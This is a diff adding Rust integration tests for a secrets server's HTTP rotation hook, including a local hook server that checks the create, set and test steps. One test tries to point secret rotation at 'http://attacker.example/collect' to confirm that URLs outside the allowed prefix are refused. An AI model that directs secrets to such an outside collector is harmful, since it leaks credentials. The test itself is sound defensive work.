@@ -283,3 +283,101 @@ fn an_external_rotator_resumes_after_a_crash_between_steps() {
             .any(|e| e.operation == Operation::KvRevoke && e.outcome == Outcome::Ok)
     );
 }
+
+/// A one-route HTTP rotator hook: records each step; `create` answers new data.
+fn hook_server() -> (u16, Arc<std::sync::Mutex<Vec<String>>>) {
+    use std::io::{BufRead, BufReader, Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let steps: Arc<std::sync::Mutex<Vec<String>>> = Arc::default();
+    let seen = steps.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut length = 0;
+            loop {
+                let mut line = String::new();
+                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+                    break;
+                }
+                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
+                    length = v.trim().parse().unwrap_or(0);
+                }
+            }
+            let mut body = vec![0; length];
+            reader.read_exact(&mut body).unwrap();
+            let request: Value = serde_json::from_slice(&body).unwrap();
+            let step = request["step"].as_str().unwrap().to_owned();
+            let answer = if step == "create" {
+                assert_eq!(request["current"]["password"], "before-hook", "the hook sees the current data");
+                r#"{"password":"from-the-hook"}"#.to_owned()
+            } else {
+                assert_eq!(
+                    request["pending"]["password"], "from-the-hook",
+                    "set and test see the pending data"
+                );
+                "{}".to_owned()
+            };
+            seen.lock().unwrap().push(step);
+            let _ = write!(
+                stream,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
+                answer.len()
+            );
+        }
+    });
+    (port, steps)
+}
+
+#[test]
+fn an_http_rotator_hook_under_an_allowed_prefix_drives_the_steps() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let (port, steps) = hook_server();
+    let prefix = format!("http://127.0.0.1:{port}/rotators/");
+    let server = start_args(&data, "n1", &[], &["--rotator-hook-prefix", &prefix]);
+    let root = root(&data);
+    ok(&server, &root, &["kv", "put", "secret/app/db", "password=before-hook"]);
+    // A URL outside the allowed prefixes is refused: metadata writers cannot send secrets anywhere.
+    let elsewhere = arca(
+        &server,
+        Some(&root),
+        &[
+            "kv",
+            "rotation",
+            "set",
+            "secret/app/db",
+            "--interval-secs",
+            "3600",
+            "--rotator",
+            "http",
+            "--url",
+            "http://attacker.example/collect",
+        ],
+    );
+    assert_eq!(elsewhere.code, 5, "{}", elsewhere.stderr);
+    ok(
+        &server,
+        &root,
+        &[
+            "kv",
+            "rotation",
+            "set",
+            "secret/app/db",
+            "--interval-secs",
+            "3600",
+            "--rotator",
+            "http",
+            "--url",
+            &format!("{prefix}db"),
+        ],
+    );
+    assert_eq!(ok(&server, &root, &["rotate", "secret/app/db"])["version"], 2);
+    assert_eq!(*steps.lock().unwrap(), vec!["create", "set", "test"]);
+    assert_eq!(ok(&server, &root, &["kv", "get", "secret/app/db"])["data"]["password"], "from-the-hook");
+    assert_eq!(
+        ok(&server, &root, &["kv", "get", "--stage", "previous", "secret/app/db"])["data"]["password"],
+        "before-hook"
+    );
+}
